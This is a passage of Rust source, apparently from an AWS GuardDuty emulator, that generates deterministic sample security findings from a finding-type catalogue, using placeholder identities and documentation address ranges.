//! Sample findings, as GuardDuty's `CreateSampleFindings` makes them: one realistic finding per
//! requested type, in the Finding shape a real detection of that type has.
//!
//! What a sample contains is decided from the type's name and its catalogue row (data source,
//! resource type, severity), family by family:
//! * CloudTrail types: an `AccessKey` resource (plus `s3BucketDetails` for S3 types, the target
//!   service's resource for Custom Detection Rule types) and an `AWS_API_CALL` action whose API
//!   is one that type is about (`Discovery:S3/*` lists objects, `Exfiltration:S3/*` reads them,
//!   `Persistence:IAMUser/*` creates access keys, ...); ML (`AnomalousBehavior`) types also carry
//!   `detection.anomaly`; Custom Detection Rule types name their first listed signal rule in
//!   `customDetectionRuleName` and take its severity;
//! * VPC flow types: an `Instance` and a `NETWORK_CONNECTION` (inbound for brute force against
//!   the instance and Tor relaying, outbound for what the instance itself does) or `PORT_PROBE`;
//! * DNS types: a `DNS_REQUEST` for the GuardDuty tester's indicator domain of the type when it
//!   has one, else a reserved `.example` name of the right kind;
//! * EKS audit types: `EKSCluster` + `kubernetesDetails` and a `KUBERNETES_API_CALL` (with the
//!   role, role-binding or permission-check details the type is about);
//! * Runtime types: `runtimeDetails` (process, lineage, type-specific context) on an instance, EKS
//!   or ECS resource, with a `NETWORK_CONNECTION` / `DNS_REQUEST` action for the network types;
//! * Malware types: `ebsVolumeScanDetails` (EC2/ECS/EKS/container volume scans) or
//!   `malwareScanDetails` (S3 objects, snapshots, AMIs, recovery points) and no action;
//! * RDS types: `RDSDBInstance` + `rdsDbUserDetails` and an `RDS_LOGIN_ATTEMPT`;
//! * Lambda types: `Lambda` + `lambdaDetails` and an outbound (inbound for Tor relaying)
//!   `NETWORK_CONNECTION`;
//! * attack sequences: `detection.sequence` with its actors, resources, endpoints and signals.
//!
//! Severity is the catalogue's; a type whose severity depends on context gets the value its label
//! gives (`Low*` → 2, ...) and its content matches that case (a brute force *against* the
//! instance, not from it); "Variable" types get the value their sample's content implies (the
//! first signal rule's level, the detected threat's severity, a login from a public address).
//!
//! Identities follow GuardDuty's own samples (`GeneratedFindingUserName`,
//! `GeneratedFindingAccessKeyId`, instance `i-99999999`), so automation that recognises and skips
//! GuardDuty samples skips these too; other names are documentation placeholders
//! (`amzn-s3-demo-bucket`, `.example` domains, addresses from 198.51.100.0/24 and
//! 203.0.113.0/24, ASNs from 64496-64511). Every sample has
//! `service.additionalInfo = {"value":"{\"sample\":true}","type":"default"}` ([`is_sample`]).
//! Titles carry no `[SAMPLE]` prefix: GuardDuty's own sample JSON has none (its console adds one).
//!
//! Ids are deterministic: [`sample_finding_id`] hashes (type, account, Region, detector), so a
//! repeated `CreateSampleFindings` finds the sample it made before; the caller then updates that
//! finding with [`record_repeat`] (count + 1, `updatedAt`/`eventLastSeen` now) instead of adding a
//! duplicate, as GuardDuty aggregates a repeated finding.

use crate::catalogue::{FindingTypeInfo, catalogue};
use crate::finding::*;
use crate::time::{EpochMillis, format_timestamp};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::sync::OnceLock;

/// Where the samples are created.
#[derive(Debug, Clone, PartialEq)]
pub struct SampleContext {
    pub account_id: String,
    pub region: String,
    pub detector_id: String,
    /// aws, aws-cn or aws-us-gov.
    pub partition: String,
    /// The time the samples are created: `createdAt`, `updatedAt` and the event times.
    pub now_ms: EpochMillis,
}

impl SampleContext {
    /// A context whose partition follows from the Region.
    pub fn new(
        account_id: impl Into<String>,
        region: impl Into<String>,
        detector_id: impl Into<String>,
        now_ms: EpochMillis,
    ) -> Self {
        let region = region.into();
        SampleContext {
            account_id: account_id.into(),
            partition: partition_for_region(&region).to_string(),
            region,
            detector_id: detector_id.into(),
            now_ms,
        }
    }
}

/// Every type `CreateSampleFindings` with an empty `findingTypes` makes: the catalogue's current
/// (non-retired) types.
pub fn sample_types() -> impl Iterator<Item = &'static str> {
    catalogue()
        .types
        .iter()
        .filter(|t| !t.retired)
        .map(|t| t.finding_type)
}

/// The id of the sample of `finding_type` for this account, Region and detector: 32 lower-case
/// hex digits, the same every time.
pub fn sample_finding_id(
    finding_type: &str,
    account_id: &str,
    region: &str,
    detector_id: &str,
) -> String {
    let mut h = Sha256::new();
    for part in [
        "warden-sample",
        finding_type,
        account_id,
        region,
        detector_id,
    ] {
        h.update(part.as_bytes());
        h.update([0u8]);
    }
    hex::encode(&h.finalize()[..16])
}

/// The sample finding of `finding_type`, or `None` when the type is not a current catalogue type
/// (unknown, or retired: GuardDuty no longer generates those).
pub fn sample_finding(finding_type: &str, ctx: &SampleContext) -> Option<Finding> {
    let info = catalogue().get(finding_type).filter(|i| !i.retired)?;
    let family = Family::of(info)?;
    let s = Sampler {
        info,
        ctx,
        name: TypeName::parse(info.finding_type),
    };
    let parts = match family {
        Family::ApiCall => s.api_call(),
        Family::Flow => s.flow(),
        Family::PortProbe => s.port_probe(),
        Family::Dns => s.dns(),
        Family::Kubernetes => s.kubernetes(),
        Family::Runtime => s.runtime(),
        Family::Malware => s.malware(),
        Family::Rds => s.rds(),
        Family::Lambda => s.lambda(),
        Family::Sequence => s.sequence(),
    };
    Some(s.finish(parts))
}

/// Whether a finding is a sample (its `additionalInfo` says `"sample": true`, in the API's string
/// form or already expanded).
pub fn is_sample(finding: &Finding) -> bool {
    finding
        .service
        .additional_info
        .as_ref()
        .and_then(|i| serde_json::from_str::<serde_json::Value>(&i.value).ok())
        .is_some_and(|v| v.get("sample") == Some(&serde_json::Value::Bool(true)))
}

/// A repeated `CreateSampleFindings` for a sample that already exists: GuardDuty aggregates it
/// into the existing finding, so its count grows and its update and last-seen times move on.
pub fn record_repeat(existing: &mut Finding, now_ms: EpochMillis) {
    let now = format_timestamp(now_ms);
    existing.service.count = existing.service.count.saturating_add(1);
    existing.service.event_last_seen = now.clone();
    existing.updated_at = now;
}

// ---- families ----

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Family {
    ApiCall,
    Flow,
    PortProbe,
    Dns,
    Kubernetes,
    Runtime,
    Malware,
    Rds,
    Lambda,
    Sequence,
}

impl Family {
    /// From the catalogue's data source (which log a real finding of the type comes from).
    fn of(info: &FindingTypeInfo) -> Option<Family> {
        let ds = info.data_source;
        Some(if info.finding_type.starts_with("AttackSequence:") {
            Family::Sequence
        } else if ds.starts_with("Malware scan") {
            Family::Malware
        } else if ds.starts_with("Runtime monitoring") {
            Family::Runtime
        } else if ds.starts_with("EKS audit logs") {
            Family::Kubernetes
        } else if ds.starts_with("RDS login activity") {
            Family::Rds
        } else if ds.starts_with("Lambda network activity") {
            Family::Lambda
        } else if ds.starts_with("DNS logs") {
            Family::Dns
        } else if ds.starts_with("VPC Flow Logs") {
            if info.finding_type.contains("/PortProbe") {
                Family::PortProbe
            } else {
                Family::Flow
            }
        } else if ds.starts_with("CloudTrail") {
            Family::ApiCall
        } else {
            return None;
        })
    }
}

/// `Tactic:Service/Technique` (the technique may carry `.Variant` and `!Source`).
struct TypeName<'a> {
    tactic: &'a str,
    service: &'a str,
    technique: &'a str,
}

impl<'a> TypeName<'a> {
    fn parse(ty: &'a str) -> TypeName<'a> {
        let (tactic, rest) = ty.split_once(':').unwrap_or(("", ty));
        let (service, technique) = rest.split_once('/').unwrap_or((rest, ""));
        TypeName {
            tactic,
            service,
            technique,
        }
    }
}

/// What a family builder decides; [`Sampler::finish`] puts it into a Finding.
#[derive(Default)]
struct Parts {
    resource: Resource,
    action: Action,
    role: &'static str,
    title: String,
    description: String,
    evidence: Option<Evidence>,
    /// For types whose catalogue severity depends on context.
    severity: Option<f64>,
    feature: Option<&'static str>,
    rule: Option<String>,
    runtime: Option<RuntimeDetails>,
    ebs_scan: Option<EbsVolumeScanDetails>,
    malware_scan: Option<MalwareScanDetails>,
    detection: Option<Detection>,
}

// ---- placeholder values ----

const USER_NAME: &str = "GeneratedFindingUserName";
const ACCESS_KEY_ID: &str = "GeneratedFindingAccessKeyId";
const PRINCIPAL_ID: &str = "GeneratedFindingPrincipalId";
const INSTANCE_ID: &str = "i-99999999";
const IMAGE_ID: &str = "ami-99999999";
const ENI_ID: &str = "eni-99999999";
const BUCKET: &str = "amzn-s3-demo-bucket";
const EKS_CLUSTER: &str = "sample-eks-cluster";
const ECS_CLUSTER: &str = "sample-ecs-cluster";
const FUNCTION: &str = "sample-function";
const DB_INSTANCE: &str = "sample-database-1";
const OTHER_ACCOUNT: &str = "444455556666";
const LOCAL_IP: &str = "172.31.14.112";
const VPC_ID: &str = "vpc-99999999";
const SUBNET_ID: &str = "subnet-99999999";
const CLI_USER_AGENT: &str =
    "aws-cli/2.15.30 Python/3.11.8 Linux/5.15.0-1051-aws exe/x86_64.ubuntu.22 prompt/off";
const KUBECTL_USER_AGENT: &str = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819";
/// The EICAR anti-virus test file: what a sample malware detection finds.
const EICAR_SHA256: &str = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";
const EICAR_NAME: &str = "EICAR-Test-File (not a virus)";

/// A remote party, from documentation address space.
#[derive(Clone, Copy)]
struct Remote {
    ip: &'static str,
    city: &'static str,
    country_code: &'static str,
    country: &'static str,
    lat: f64,
    lon: f64,
    asn: u32,
    org: &'static str,
}

const HOSTING: Remote = Remote {
    ip: "198.51.100.23",
    city: "Frankfurt am Main",
    country_code: "DE",
    country: "Germany",
    lat: 50.1109,
    lon: 8.6821,
    asn: 64496,
    org: "Example Hosting GmbH",
};
const TOR_EXIT: Remote = Remote {
    ip: "203.0.113.151",
    city: "Amsterdam",
    country_code: "NL",
    country: "Netherlands",
    lat: 52.3676,
    lon: 4.9041,
    asn: 64500,
    org: "Example Privacy Network",
};
const ISP: Remote = Remote {
    ip: "198.51.100.77",
    city: "Lagos",
    country_code: "NG",
    country: "Nigeria",
    lat: 6.5244,
    lon: 3.3792,
    asn: 64510,
    org: "Example Broadband",
};

impl Remote {
    fn details(&self) -> RemoteIpDetails {
        RemoteIpDetails {
            city: Some(City {
                city_name: self.city.into(),
            }),
            country: Some(Country {
                country_code: Some(self.country_code.into()),
                country_name: Some(self.country.into()),
            }),
            geo_location: Some(GeoLocation {
                lat: self.lat,
                lon: self.lon,
            }),
            ip_address_v4: Some(self.ip.into()),
            ip_address_v6: None,
            organization: Some(Organization {
                asn: Some(self.asn.to_string()),
                asn_org: Some(self.org.to_uppercase().replace(' ', "-")),
                isp: Some(self.org.into()),
                org: Some(self.org.into()),
            }),
        }
    }
}

/// Where a sample's remote party comes from, by the type's technique.
enum Source {
    /// On AWS's threat intelligence.
    Malicious,
    /// On the customer's own threat list.
    Custom,
    Tor,
    /// Nothing known against it.
    Plain,
}

impl Source {
    fn of(technique: &str) -> Source {
        if technique.contains(".Custom") {
            Source::Custom
        } else if technique.contains("TorIPCaller") || technique.contains("TorClient") {
            Source::Tor
        } else if technique.contains("MaliciousIPCaller") {
            Source::Malicious
        } else {
            Source::Plain
        }
    }
    fn remote(&self) -> Remote {
        match self {
            Source::Tor => TOR_EXIT,
            Source::Malicious | Source::Custom => HOSTING,
            Source::Plain => ISP,
        }
    }
    fn evidence(&self) -> Option<Evidence> {
        match self {
            Source::Malicious => Some(threat_evidence("ProofPoint", "MaliciousIP")),
            Source::Custom => Some(threat_evidence(
                "sample-customer-threat-list",
                "CustomThreatListEntry",
            )),
            Source::Tor => Some(threat_evidence("TorExitNodes", "TorExitNode")),
            Source::Plain => None,
        }
    }
    /// The remote party as a sentence's subject.
    fn subject(&self, ip: &str) -> String {
        match self {
            Source::Malicious => format!("Known malicious IP address {ip}"),
            Source::Custom => format!("IP address {ip}, on a custom threat list,"),
            Source::Tor => format!("Tor exit node {ip}"),
            Source::Plain => format!("IP address {ip}"),
        }
    }
    /// "from ..." for titles.
    fn words(&self, ip: &str) -> String {
        match self {
            Source::Malicious => format!("from a known malicious IP address {ip}"),
            Source::Custom => format!("from IP address {ip} on a custom threat list"),
            Source::Tor => format!("from Tor exit node IP address {ip}"),
            Source::Plain => format!("from IP address {ip}"),
        }
    }
}

fn threat_evidence(list: &str, threat: &str) -> Evidence {
    Evidence {
        threat_intelligence_details: vec![ThreatIntelligenceDetail {
            threat_list_name: list.into(),
            threat_names: vec![threat.into()],
            threat_file_sha256: None,
        }],
    }
}

fn port(port: i64) -> PortDetails {
    let name = match port {
        22 => "SSH",
        25 => "SMTP",
        53 => "DNS",
        80 => "HTTP",
        443 => "HTTPS",
        3389 => "RDP",
        _ => "Unknown",
    };
    PortDetails {
        port,
        port_name: name.into(),
    }
}

fn tags(pairs: &[(&str, &str)]) -> Option<Vec<Tag>> {
    Some(
        pairs
            .iter()
            .map(|(k, v)| Tag {
                key: (*k).into(),
                value: (*v).into(),
            })
            .collect(),
    )
}

/// The GuardDuty tester's indicator domain for a DNS type (`crates/intel`'s copy of the list).
fn tester_domain(finding_type: &str) -> Option<&'static str> {
    static DOMAINS: OnceLock<BTreeMap<&'static str, &'static str>> = OnceLock::new();
    DOMAINS
        .get_or_init(|| {
            include_str!("../../intel/data/builtin/tester-domains.tsv")
                .lines()
                .filter(|l| !l.starts_with('#'))
                .filter_map(|l| l.split_once('\t'))
                .map(|(domain, ty)| (ty.trim(), domain.trim()))
                .collect()
        })
        .get(finding_type)
        .copied()
}

/// The registrable part of a domain (`c2.guarddutyc2activityb.com` → `guarddutyc2activityb.com`).
fn domain_with_suffix(domain: &str) -> String {
    let labels: Vec<&str> = domain.rsplitn(3, '.').collect();
    match labels.as_slice() {
        [tld, sld, ..] => format!("{sld}.{tld}"),
        _ => domain.to_string(),
    }
}

/// The catalogue trigger as a sentence for a description, without the catalogue's asides:
/// parenthesised notes and the clause on how severity varies.
fn sentence(trigger: &str) -> String {
    let mut text = String::with_capacity(trigger.len());
    let mut depth = 0usize;
    for c in trigger.chars() {
        match c {
            '(' => depth += 1,
            ')' => depth = depth.saturating_sub(1),
            _ if depth == 0 => text.push(c),
            _ => {}
        }
    }
    let mut text = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if let Some(i) = text.find("; ")
        && ["Low", "Medium", "High"]
            .iter()
            .any(|w| text[i..].contains(w))
    {
        text.truncate(i);
    }
    let text = text.replace(" :", ":").replace(" ,", ",");
    format!("{}.", text.trim().trim_end_matches('.'))
}

/// A technique or tactic name as words: `KernelModuleLoaded` → `kernel module loaded`,
/// `MetadataDNSRebind` → `metadata DNS rebind` (acronyms and proper names keep their case).
fn words(name: &str) -> String {
    let name = name
        .replace("DoH", "DNS-over-HTTPS ")
        .replace("DoT", "DNS-over-TLS ")
        .replace("WinRM", "WinRM ");
    let chars: Vec<char> = name.chars().collect();
    let mut out: Vec<String> = Vec::new();
    let mut word = String::new();
    for (i, &c) in chars.iter().enumerate() {
        let prev = i.checked_sub(1).map(|j| chars[j]);
        let next = chars.get(i + 1).copied();
        let boundary = c.is_uppercase()
            && prev.is_some_and(|p| {
                p.is_lowercase() || (p.is_uppercase() && next.is_some_and(char::is_lowercase))
            });
        if (boundary || c == ' ') && !word.is_empty() && !word.ends_with('-') {
            out.push(std::mem::take(&mut word));
        }
        if c != ' ' {
            word.push(c);
        }
    }
    if !word.is_empty() {
        out.push(word);
    }
    out.iter()
        .map(|w| {
            let acronym = w
                .chars()
                .filter(|c| c.is_alphabetic())
                .all(char::is_uppercase);
            if acronym
                || w.contains('-')
                || ["Tor", "Bitcoin", "WinRM", "Kubernetes"].contains(&w.as_str())
            {
                w.clone()
            } else {
                w.to_lowercase()
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

fn capitalized(s: &str) -> String {
    let mut c = s.chars();
    match c.next() {
        Some(f) => f.to_uppercase().chain(c).collect(),
        None => String::new(),
    }
}

fn level_value(level: &str) -> Option<f64> {
    match level
        .trim()
        .trim_end_matches('*')
        .to_ascii_uppercase()
        .as_str()
    {
        "LOW" => Some(2.0),
        "MEDIUM" => Some(5.0),
        "HIGH" => Some(8.0),
        "CRITICAL" => Some(9.0),
        _ => None,
    }
}

/// A Custom Detection Rule type's first listed signal rule and its severity (the catalogue's
/// trigger ends `Signals: RuleName=LEVEL; ...`).
fn first_signal(trigger: &str) -> Option<(&str, f64)> {
    let list = trigger.split_once("Signals:")?.1;
    let (name, level) = list.split(';').next()?.split_once('=')?;
    Some((name.trim(), level_value(level)?))
}

/// The API and event source a Custom Detection Rule's signal is raised for, and what it acts on.
fn rule_call(rule: &str) -> Option<(&'static str, &'static str, Target)> {
    Some(match rule {
        "EC2PasswordDataRetrieved" => ("GetPasswordData", "ec2.amazonaws.com", Target::Instance),
        "RDSMasterPasswordReset" | "RDSIAMAuthDisabled" | "RDSPubliclyAccessible" => {
            ("ModifyDBInstance", "rds.amazonaws.com", Target::Database)
        }
        "EC2TerminationProtectionEnabled" | "EC2UserDataModified" => (
            "ModifyInstanceAttribute",
            "ec2.amazonaws.com",
            Target::Instance,
        ),
        "VPCFlowLogsDeleted" => ("DeleteFlowLogs", "ec2.amazonaws.com", Target::AccessKey),
        "OrganizationLeaveAttempt" => (
            "LeaveOrganization",
            "organizations.amazonaws.com",
            Target::AccessKey,
        ),
        "OrganizationPolicyDisabled" => (
            "DisablePolicyType",
            "organizations.amazonaws.com",
            Target::AccessKey,
        ),
        "DNSQueryLogsDeleted" => (
            "DeleteResolverQueryLogConfig",
            "route53resolver.amazonaws.com",
            Target::AccessKey,
        ),
        "S3CustomerProvidedKeysEnabled" => {
            ("PutBucketEncryption", "s3.amazonaws.com", Target::Bucket)
        }
        "SageMakerLifecycleConfigModified" => (
            "UpdateNotebookInstanceLifecycleConfig",
            "sagemaker.amazonaws.com",
            Target::AccessKey,
        ),
        "AMIExternalAccess" => ("ModifyImageAttribute", "ec2.amazonaws.com", Target::Image),
        "EBSSnapshotExternalAccess" => (
            "ModifySnapshotAttribute",
            "ec2.amazonaws.com",
            Target::Snapshot,
        ),
        "RDSSnapshotPubliclyShared" => (
            "ModifyDBSnapshotAttribute",
            "rds.amazonaws.com",
            Target::AccessKey,
        ),
        "S3BucketPolicyExternalAccess" => ("PutBucketPolicy", "s3.amazonaws.com", Target::Bucket),
        "S3LifecycleRapidExpiration" => ("PutBucketLifecycle", "s3.amazonaws.com", Target::Bucket),
        "SESAccountSendingEnabled" => (
            "UpdateAccountSendingEnabled",
            "ses.amazonaws.com",
            Target::AccessKey,
        ),
        "SESProductionAccessEnabled" => {
            ("PutAccountDetails", "ses.amazonaws.com", Target::AccessKey)
        }
        "SESDomainIdentityVerified" => (
            "VerifyDomainIdentity",
            "ses.amazonaws.com",
            Target::AccessKey,
        ),
        "ConsoleLoginWithoutMFA" => ("ConsoleLogin", "signin.amazonaws.com", Target::AccessKey),
        "EC2InstanceSSHKeyPushed" => (
            "SendSSHPublicKey",
            "ec2-instance-connect.amazonaws.com",
            Target::Instance,
        ),
        "EC2SecurityGroupPublicSSH" => (
            "AuthorizeSecurityGroupIngress",
            "ec2.amazonaws.com",
            Target::AccessKey,
        ),
        "IAMAccessKeyCreated" => ("CreateAccessKey", "iam.amazonaws.com", Target::AccessKey),
        "IAMRoleTrustPolicyModified" => (
            "UpdateAssumeRolePolicy",
            "iam.amazonaws.com",
            Target::AccessKey,
        ),
        "IAMUserLoginProfileCreated" => {
            ("CreateLoginProfile", "iam.amazonaws.com", Target::AccessKey)
        }
        "IAMUserLoginProfileUpdated" => {
            ("UpdateLoginProfile", "iam.amazonaws.com", Target::AccessKey)
        }
        "LambdaFunctionPublicAccess" => ("AddPermission", "lambda.amazonaws.com", Target::Function),
        "LambdaFunctionUrlPublicAccess" => (
            "CreateFunctionUrlConfig",
            "lambda.amazonaws.com",
            Target::Function,
        ),
        "RolesAnywhereTrustAnchorCreated" => (
            "CreateTrustAnchor",
            "rolesanywhere.amazonaws.com",
            Target::AccessKey,
        ),
        "AdminPolicyAttachedToRole" | "SESFullAccessPolicyAttachedToRole" => {
            ("AttachRolePolicy", "iam.amazonaws.com", Target::AccessKey)
        }
        "AdminPolicyAttachedToUser" | "SESFullAccessPolicyAttachedToUser" => {
            ("AttachUserPolicy", "iam.amazonaws.com", Target::AccessKey)
        }
        "BedrockServiceCredentialCreated" => (
            "CreateServiceSpecificCredential",
            "iam.amazonaws.com",
            Target::AccessKey,
        ),
        _ => return None,
    })
}

/// What an API call acted on, for the finding's resource.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Target {
    AccessKey,
    Bucket,
    Instance,
    Database,
    Function,
    Snapshot,
    Image,
}

/// The API a (non-rule) CloudTrail type is about, and its event source.
fn api_for(name: &TypeName<'_>, ty: &str) -> (&'static str, &'static str) {
    const S3: &str = "s3.amazonaws.com";
    const IAM: &str = "iam.amazonaws.com";
    const EC2: &str = "ec2.amazonaws.com";
    match ty {
        "Stealth:IAMUser/CloudTrailLoggingDisabled" => {
            return ("StopLogging", "cloudtrail.amazonaws.com");
        }
        "Stealth:IAMUser/PasswordPolicyChange" => return ("UpdateAccountPasswordPolicy", IAM),
        "Stealth:S3/ServerAccessLoggingDisabled" => return ("PutBucketLogging", S3),
        "DefenseEvasion:IAMUser/BedrockLoggingDisabled" => {
            return (
                "DeleteModelInvocationLoggingConfiguration",
                "bedrock.amazonaws.com",
            );
        }
        "Policy:S3/AccountBlockPublicAccessDisabled" => return ("PutAccountPublicAccessBlock", S3),
        "Policy:S3/BucketBlockPublicAccessDisabled" => return ("PutBucketPublicAccessBlock", S3),
        "Policy:S3/BucketAnonymousAccessGranted" => return ("PutBucketPolicy", S3),
        "Policy:S3/BucketPublicAccessGranted" => return ("PutBucketAcl", S3),
        "Policy:IAMUser/RootCredentialUsage" => return ("DescribeInstances", EC2),
        // Centralized root access: the task policy that unlocks a bucket.
        "Policy:IAMUser/ShortTermRootCredentialUsage" => return ("DeleteBucketPolicy", S3),
        "UnauthorizedAccess:IAMUser/ConsoleLoginSuccess.B" => {
            return ("ConsoleLogin", "signin.amazonaws.com");
        }
        "Impact:S3/AnomalousBehavior.Delete" => return ("DeleteObjects", S3),
        "Impact:S3/AnomalousBehavior.Permission" => return ("PutObjectAcl", S3),
        "Impact:S3/AnomalousBehavior.Write" => return ("PutObject", S3),
        _ => {}
    }
    if name.technique.contains("CredentialExfiltration") {
        return ("ListBuckets", S3);
    }
    match (name.tactic, name.service) {
        (_, "S3") => match name.tactic {
            "Discovery" => ("ListObjects", S3),
            "Impact" => ("DeleteObject", S3),
            _ => ("GetObject", S3),
        },
        ("CredentialAccess", _) => ("GetSecretValue", "secretsmanager.amazonaws.com"),
        ("DefenseEvasion", _) => ("DeleteFlowLogs", EC2),
        ("Discovery", _) => ("DescribeInstances", EC2),
        ("Exfiltration", _) => ("CreateSnapshot", EC2),
        ("Impact", _) => ("DeleteSecurityGroup", EC2),
        ("InitialAccess", _) => ("StartSession", "ssm.amazonaws.com"),
        ("Persistence", _) => ("CreateAccessKey", IAM),
        ("PrivilegeEscalation", _) => ("AttachUserPolicy", IAM),
        ("Recon", _) | ("PenTest", _) => ("ListAccessKeys", IAM),
        _ => ("RunInstances", EC2),
    }
}

fn pentest_user_agent(technique: &str) -> Option<&'static str> {
    Some(match technique {
        "KaliLinux" => {
            "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024 prompt/off"
        }
        "ParrotLinux" => {
            "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-13parrot1-amd64 exe/x86_64.parrot.6 prompt/off"
        }
        "PentooLinux" => {
            "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.8-pentoo exe/x86_64.gentoo.2.15 prompt/off"
        }
        _ => return None,
    })
}

/// What a Runtime sample runs on: spread over the three resource kinds Runtime Monitoring
/// covers, by type name, so a full sample set shows each shape.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Workload {
    Instance,
    Eks,
    Ecs,
}

/// A small stable hash of a string (for choices and placeholder hex that must not change).
fn digest(parts: &[&str]) -> [u8; 32] {
    let mut h = Sha256::new();
    for p in parts {
        h.update(p.as_bytes());
        h.update([0u8]);
    }
    h.finalize().into()
}

fn hex_of(parts: &[&str], len: usize) -> String {
    let mut s = hex::encode(digest(parts));
    s.truncate(len);
    s
}

fn uuid_of(parts: &[&str]) -> String {
    let h = hex_of(parts, 32);
    format!(
        "{}-{}-{}-{}-{}",
        &h[..8],
        &h[8..12],
        &h[12..16],
        &h[16..20],
        &h[20..]
    )
}

struct Sampler<'a> {
    info: &'a FindingTypeInfo,
    ctx: &'a SampleContext,
    name: TypeName<'a>,
}

impl Sampler<'_> {
    fn ty(&self) -> &'static str {
        self.info.finding_type
    }
    fn arn(&self, service: &str, rest: &str) -> String {
        format!(
            "arn:{}:{service}:{}:{}:{rest}",
            self.ctx.partition, self.ctx.region, self.ctx.account_id
        )
    }
    fn secs_ago(&self, secs: i64) -> EpochSeconds {
        (self.ctx.now_ms / 1000 - secs) as f64
    }
    fn access_key(&self) -> AccessKeyDetails {
        AccessKeyDetails {
            access_key_id: Some(ACCESS_KEY_ID.into()),
            principal_id: Some(PRINCIPAL_ID.into()),
            user_name: Some(USER_NAME.into()),
            user_type: Some("IAMUser".into()),
        }
    }
    fn instance(&self) -> InstanceDetails {
        let mut d = InstanceDetails {
            instance_id: Some(INSTANCE_ID.into()),
            instance_type: Some("m5.large".into()),
            image_id: Some(IMAGE_ID.into()),
            availability_zone: Some(format!("{}a", self.ctx.region)),
            ..Default::default()
        };
        d.tags = tags(&[("Name", "sample-web-server")]);
        d
    }
    fn bucket(&self) -> S3BucketDetail {
        // The bucket's exposure is what the S3 policy types are about; every other sample's
        // bucket is private with Block Public Access on.
        let (acl_public, policy_public, bucket_block, account_block) = match self.ty() {
            "Policy:S3/BucketAnonymousAccessGranted" => (false, true, false, false),
            "Policy:S3/BucketPublicAccessGranted" => (true, false, false, false),
            "Policy:S3/BucketBlockPublicAccessDisabled" => (false, false, false, true),
            "Policy:S3/AccountBlockPublicAccessDisabled" => (false, false, true, false),
            _ => (false, false, true, true),
        };
        let public = acl_public || policy_public;
        S3BucketDetail {
            arn: Some(format!("arn:{}:s3:::{BUCKET}", self.ctx.partition)),
            name: Some(BUCKET.into()),
            bucket_type: Some("Destination".into()),
            created_at: Some(self.secs_ago(400 * 86_400)),
            owner: Some(Owner {
                id: hex_of(&["owner", &self.ctx.account_id], 64),
            }),
            tags: tags(&[("Environment", "production")]),
            default_server_side_encryption: Some(DefaultServerSideEncryption {
                encryption_type: Some("AES256".into()),
                kms_master_key_arn: None,
            }),
            public_access: Some(PublicAccess {
                effective_permission: Some(if public { "PUBLIC" } else { "NOT_PUBLIC" }.into()),
                permission_configuration: Some(PermissionConfiguration {
                    bucket_level_permissions: Some(BucketLevelPermissions {
                        access_control_list: Some(PublicReadWrite {
                            allows_public_read_access: Some(acl_public),
                            allows_public_write_access: Some(false),
                        }),
                        bucket_policy: Some(PublicReadWrite {
                            allows_public_read_access: Some(policy_public),
                            allows_public_write_access: Some(false),
                        }),
                        block_public_access: Some(block_all(bucket_block)),
                    }),
                    account_level_permissions: Some(AccountLevelPermissions {
                        block_public_access: Some(block_all(account_block)),
                    }),
                }),
            }),
            s3_object_details: None,
        }
    }
    fn eks_cluster(&self) -> EksClusterDetails {
        EksClusterDetails {
            name: Some(EKS_CLUSTER.into()),
            arn: Some(self.arn("eks", &format!("cluster/{EKS_CLUSTER}"))),
            vpc_id: Some(VPC_ID.into()),
            status: Some("ACTIVE".into()),
            tags: tags(&[("Environment", "production")]),
            created_at: Some(self.secs_ago(200 * 86_400)),
        }
    }
    fn container(&self, name: &str, image: &str) -> Container {
        Container {
            container_runtime: Some("containerd".into()),
            id: Some(hex_of(&["container", self.ty()], 64)),
            name: Some(name.into()),
            image: Some(image.into()),
            image_prefix: image.split(['/', ':']).next().map(str::to_string),
            volume_mounts: None,
            security_context: Some(SecurityContext {
                privileged: Some(false),
                allow_privilege_escalation: Some(false),
            }),
        }
    }
    fn pod(&self, name: &str, namespace: &str, container: Container) -> KubernetesWorkloadDetails {
        KubernetesWorkloadDetails {
            name: Some(name.into()),
            workload_type: Some("pods".into()),
            uid: Some(uuid_of(&["pod", self.ty()])),
            namespace: Some(namespace.into()),
            host_network: Some(false),
            service_account_name: Some("default".into()),
            containers: Some(vec![container]),
            volumes: None,
            host_ipc: Some(false),
            host_pid: Some(false),
        }
    }
    fn ecs_cluster(&self, container: Container) -> EcsClusterDetails {
        let task_id = hex_of(&["task", self.ty()], 32);
        EcsClusterDetails {
            name: Some(ECS_CLUSTER.into()),
            arn: Some(self.arn("ecs", &format!("cluster/{ECS_CLUSTER}"))),
            status: Some("ACTIVE".into()),
            active_services_count: Some(3),
            registered_container_instances_count: Some(0),
            running_tasks_count: Some(6),
            tags: tags(&[("Environment", "production")]),
            task_details: Some(EcsTaskDetails {
                arn: Some(self.arn("ecs", &format!("task/{ECS_CLUSTER}/{task_id}"))),
                definition_arn: Some(self.arn("ecs", "task-definition/sample-web:7")),
                version: Some("7".into()),
                created_at: Some(self.secs_ago(3 * 3600)),
                started_at: Some(self.secs_ago(3 * 3600 - 40)),
                started_by: Some("ecs-svc/9999999999999999999".into()),
                tags: None,
                volumes: None,
                containers: Some(vec![container]),
                group: Some("service:sample-web".into()),
                launch_type: Some("FARGATE".into()),
            }),
        }
    }
    fn remote_api_call(
        &self,
        api: &str,
        service: &str,
        source: &Source,
        user_agent: &str,
    ) -> Action {
        let remote = source.remote();
        Action {
            action_type: "AWS_API_CALL".into(),
            aws_api_call_action: Some(AwsApiCallAction {
                api: api.into(),
                caller_type: "Remote IP".into(),
                user_agent: Some(user_agent.into()),
                remote_ip_details: Some(remote.details()),
                service_name: service.into(),
                ..Default::default()
            }),
            ..Default::default()
        }
    }
    fn connection(
        &self,
        outbound: bool,
        protocol: &str,
        local_port: Option<i64>,
        remote_port: Option<i64>,
        remote: Remote,
    ) -> Action {
        Action {
            action_type: "NETWORK_CONNECTION".into(),
